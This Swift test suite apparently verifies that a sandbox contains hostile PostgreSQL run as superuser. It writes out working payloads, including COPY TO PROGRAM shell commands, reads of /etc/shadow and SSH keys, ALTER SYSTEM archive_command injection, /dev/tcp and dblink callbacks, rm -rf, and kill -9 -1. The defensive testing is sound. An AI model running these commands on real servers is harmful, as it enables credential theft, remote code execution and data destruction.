import Foundation
import Testing

@testable import Judging
@testable import Launching
@testable import Runner

/// Attack 42: SQL that is really executed, as the cluster's superuser.
@Suite("SQL that is executed does not leave the jail", .serialized, .timeLimit(.minutes(10)))
struct HostileSQLTests {
  private static let plants = Plants(lines: [
    "COPY (SELECT 1) TO PROGRAM 'touch @';", "COPY (SELECT 1) TO '@';",
    "CREATE TABLE t (line text); COPY t FROM PROGRAM 'touch @';",
    "SELECT lo_from_bytea(7777, 'x'); SELECT lo_export(7777, '@');",
    "SELECT lo_import('#/secret', 7778); SELECT lo_export(7778, '@');",
    "DO $$ BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''mkdir @; chmod 777 @'''; END $$;",
    "CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS "
      + "$$ BEGIN COPY (SELECT 1) TO PROGRAM 'ln -s /etc @'; RETURN NEW; END $$; "
      + "CREATE TRIGGER g AFTER INSERT ON t EXECUTE FUNCTION f(); INSERT INTO t VALUES ('x');",
    "\\! mkdir -m 777 @\nCREATE TABLESPACE s LOCATION '@'; CREATE TABLE u (i int) TABLESPACE s;",
  ])
  private static let reading = """
    SELECT pg_read_file('#/secret');
    SELECT pg_read_binary_file('#/secret');
    SELECT convert_from(lo_get(7778), 'UTF8');
    COPY t FROM '#/secret';
    COPY t FROM PROGRAM 'cat #/secret';
    COPY t FROM PROGRAM 'cat /etc/shadow /root/.ssh/id_rsa /proc/1/environ';
    SELECT * FROM t;
    SELECT pg_ls_dir('#');
    LOAD '#/secret';
    CREATE FUNCTION s(cstring) RETURNS int AS '#/secret', 'system' LANGUAGE C;
    ALTER SYSTEM SET archive_mode = on;
    ALTER SYSTEM SET archive_command = 'touch #/planted';
    ALTER SYSTEM SET restore_command = 'touch #/planted';
    ALTER SYSTEM SET shared_preload_libraries = '#/secret';
    SELECT pg_reload_conf();
    COPY (SELECT 1) TO PROGRAM 'echo gone > #/kept; rm -rf #/secret #/kept';

    """

  private func attack(
    _ tier: Jail.Tier?, _ folder: CanaryFolder, _ ear: Ear
  ) async throws -> Termination {
    let network = """
      COPY (SELECT 1) TO PROGRAM 'bash -c "echo x > /dev/tcp/127.0.0.1/\(ear.port)"';
      CREATE EXTENSION dblink;
      SELECT dblink_connect('host=127.0.0.1 port=\(ear.port) connect_timeout=2 user=x dbname=x');
      """
    let text = Self.plants.text(in: folder) + Self.reading.replacing("#", with: folder.path)
    return try await Stage.execute(text + network + "\n\\echo the end\n", on: tier)
  }

  @Test("COPY, large objects, tablespaces, dblink, ALTER SYSTEM, LOAD", arguments: Stage.tiers)
  func outside(tier: Jail.Tier) async throws {
    try await CanaryFolder.lend { folder in
      let ear = try Ear.ipv4()
      let end = try await attack(tier, folder, ear)
      #expect(end.ending == .exited(0) && end.said.hasSuffix("the end\n"), "\(end.ending)")
      #expect(try folder.isUntouched())
      #expect(!end.tellsSecret && !end.said.contains("root:"))
      #expect(ear.heard() == 0)
    }
  }

  @Test("the control: without a jail each of them does")
  func control() async throws {
    try await CanaryFolder.lend { folder in
      let ear = try Ear.ipv4()
      let end = try await attack(nil, folder, ear)
      #expect(Self.plants.failed(in: folder) == [], "\(end.said)")
      #expect(end.tellsSecret)
      #expect(access(folder.kept, F_OK) != 0)
      #expect(ear.heard() >= 1)
    }
  }

  @Test("a server's process kills no other one", arguments: Stage.tiers)
  func killing(tier: Jail.Tier) async throws {
    if tier == .landlock, JailSurvey.landlockABI < 6 {
      try Test.cancel("this kernel's Landlock (ABI \(JailSurvey.landlockABI)) scopes no signals")
    }
    let mark = Bystander.mark()
    let bystander = Task { try await Stage.run("/bin/sleep", [mark], in: Stage.bare) }
    defer { bystander.cancel() }
    try #require(await Bystander.appears(mark))
    let pid = try #require(Bystander.pid(mark))
    // All at once only where a hole would not take this whole user's session with it.
    let all = tier == .landlock ? "true" : "kill -9 -1"
    let text = """
      SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid();
      SELECT pg_terminate_backend(\(pid), 100), pg_cancel_backend(\(pid));
      COPY (SELECT 1) TO PROGRAM 'kill -9 \(pid)';
      COPY (SELECT 1) TO PROGRAM '\(all)';
      SELECT pg_terminate_backend(pg_backend_pid());
      """
    _ = try await Stage.execute(text, on: tier)
    #expect(Bystander.pid(mark) == pid)
    _ = try await Stage.execute("COPY (SELECT 1) TO PROGRAM 'kill -9 \(pid)';\n", on: nil)
    #expect(await Bystander.vanishes(mark), "the control")
  }

  @Test("a session that would never end is stopped by a limit, and nothing of it is left")
  func endless() async throws {
    let limits = Limits(wall: .milliseconds(1500), cpu: 1)
    let setting = "SET statement_timeout = 0; SET lock_timeout = 0;\n"
    for text in [
      "SELECT pg_sleep(600);",
      "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT 1 FROM r) SELECT count(*) FROM r;",
    ] {
      let end = try await Stage.execute(setting + text + "\n", on: .namespaces, limits: limits)
      // Or its process was, by a limit of its own, and psql lost the connection.
      let isStopped = end.ending == .stopped(by: .wall) || end.ending == .stopped(by: .cpu)
      #expect(isStopped || end.ending == .exited(2), "\(text) \(end.ending) \(end.said)")
      #expect(end.wall < .seconds(10) && end.cpu < .seconds(4))
    }
    let end = try await Stage.execute(setting + "SELECT 42;\n", on: .namespaces, limits: limits)
    #expect(end.ending == .exited(0) && end.said.contains("42"), "the control")
  }
}
